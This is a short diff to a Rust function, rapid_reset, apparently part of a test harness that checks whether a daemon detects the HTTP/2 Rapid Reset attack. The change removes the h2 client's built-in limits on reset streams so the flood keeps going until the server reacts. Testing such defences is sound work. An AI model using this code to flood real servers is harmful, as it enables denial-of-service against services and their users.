@@ -168,7 +168,15 @@ async fn rapid_reset(
     let tls = tokio_rustls::TlsConnector::from(cfg)
         .connect(ServerName::try_from(cli.sni.clone())?, tcp)
         .await?;
-    let (mut client, conn) = h2::client::handshake(tls).await?;
+    // An attacker's client does not give up by itself: h2's own client closes the
+    // connection (ENHANCE_YOUR_CALM, "detected") once it has forgotten more than a few
+    // reset streams and answers the server's frames on them with more resets; only the
+    // daemon's verdict on the connection is of interest.
+    let (mut client, conn) = h2::client::Builder::new()
+        .max_concurrent_reset_streams(count as usize)
+        .max_local_error_reset_streams(None)
+        .handshake(tls)
+        .await?;
     let driver = tokio::spawn(conn);
     let t0 = Instant::now();
     let mut sent = 0u32;
